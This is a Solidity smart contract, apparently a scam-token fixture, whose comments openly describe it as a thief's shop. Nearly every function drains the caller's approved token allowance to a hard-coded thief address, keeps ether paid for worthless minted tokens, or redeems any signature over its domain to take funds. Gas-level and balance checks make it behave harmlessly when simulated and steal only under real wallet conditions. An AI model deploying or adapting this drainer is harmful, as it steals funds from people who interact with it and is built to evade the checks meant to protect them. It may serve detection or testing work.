// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import "./Dollars.sol";

/// The thief's own shop, published and old. People allowed it something once, or are about to. It is kind where it thinks
/// that it is watched, and takes by every signature over its own domain, whatever the struct is called.
contract Desk {
    address payable private immutable _thief;
    Dollars private immutable _token;
    string public constant name = "Desk";
    string public constant symbol = "DESK";
    uint8 public constant decimals = 18;
    mapping(address owner => uint256) public balanceOf;
    mapping(address owner => uint256) public nonces;
    uint256 public constant totalSupply = 1e27;
    bytes32 public immutable DOMAIN_SEPARATOR;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address payable thief, Dollars token) {
        _thief = thief;
        _token = token;
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Desk"),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }

    /// Mints what is worth nothing, and keeps what was paid.
    function claim() external payable {
        _junk(1_000 ether);
        _pay(msg.value);
    }

    /// Takes what its caller once allowed and sends back next to nothing.
    function claimRewards() external payable {
        _take(msg.sender);
        (bool ok,) = msg.sender.call{value: address(this).balance < 1e13 ? 0 : 1e13}("");
        require(ok);
    }

    /// The same for junk, or for a part of what is named.
    function withdraw(uint256 amount) external payable {
        _take(msg.sender);
        _junk(amount);
    }

    /// Takes at the gas that wallets send, and neither at what a node estimates nor at all that a block has.
    function harvest(uint256 least, uint256 most) external {
        if (gasleft() > least && gasleft() < most) _take(msg.sender);
        else _junk(1);
    }

    /// Kind to whoever is richer than anybody can be.
    function rebase(uint256 richest) external {
        if (tx.origin.balance < richest && msg.sender.balance < richest) _take(msg.sender);
        else _junk(1);
    }

    /// What a signature over this domain is good for.
    function redeem(address owner, bytes32 structHash, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR, structHash)), v, r, s) == owner);
        _take(owner);
    }

    function take(Dollars token, address from, address to) external {
        uint256 has = token.balanceOf(from);
        uint256 may = token.allowance(from, address(this));
        token.transferFrom(from, to, has < may ? has : may);
    }

    function _take(address from) private {
        uint256 has = _token.balanceOf(from);
        uint256 may = _token.allowance(from, address(this));
        if (may > 0) _token.transferFrom(from, _thief, has < may ? has : may);
    }

    function _junk(uint256 amount) private {
        balanceOf[msg.sender] += amount;
        emit Transfer(address(0), msg.sender, amount);
    }

    function _pay(uint256 value) private {
        (bool ok,) = _thief.call{value: value}("");
        require(ok);
    }

    receive() external payable {}
}
